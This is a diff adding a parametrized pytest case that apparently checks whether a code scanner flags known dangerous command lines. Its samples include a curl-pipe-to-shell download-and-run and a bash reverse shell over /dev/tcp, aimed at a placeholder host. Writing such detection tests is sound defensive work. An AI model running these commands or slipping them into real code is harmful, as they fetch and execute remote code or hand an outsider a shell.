@@ -147,6 +147,21 @@ def test_what_can_only_be_told_in_part(text: str, path: str) -> None:
     assert path in {found.path for found in walked(text)}
 
 
+@pytest.mark.parametrize(
+    ("text", "path"),
+    [
+        ("import os\nos.system('curl http://inert.invalid/a | sh')", "shell.download_and_run"),
+        (
+            "import subprocess\nsubprocess.run(['bash', '-c', 'curl http://inert.invalid/a | sh'])",
+            "shell.download_and_run",
+        ),
+        ("import os\nos.popen('bash -i >& /dev/tcp/inert.invalid/1 0>&1')", "shell.reverse_shell"),
+    ],
+)
+def test_command_lines_that_are_known_are_looked_at(text: str, path: str) -> None:
+    assert path in {found.path for found in walked(text)}
+
+
 def test_a_short_bound_holds_for_endless_work() -> None:
     begun = time.monotonic()
     text = "x = [[[chr(a) for a in range(9)] for b in 'abcdefgh' * 1000] for c in 'abcdefgh' * 1000]"
